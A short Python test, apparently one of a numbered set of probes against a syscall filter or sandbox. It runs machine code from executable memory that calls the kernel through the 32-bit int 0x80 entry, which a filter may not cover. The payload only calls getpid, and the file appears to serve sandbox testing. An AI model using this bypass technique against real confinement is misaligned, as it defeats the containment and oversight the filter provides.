"""18. Call the kernel by its 32-bit entry (int 0x80), whose numbers a filter may not know.

Even without layers: it needs no layer to hold where the kernel has no 32-bit entry, or on another machine than x86.
"""

import ctypes
import mmap
import os
import platform


def attack(world):
    if platform.machine() != "x86_64":
        raise NotImplementedError
    code = b"\x53\xb8\x14\x00\x00\x00\xcd\x80\x5b\xc3"  # push rbx; mov eax, 20 (getpid); int 0x80; pop rbx; ret
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    if call() != os.getpid():
        raise OSError
    return "answered"
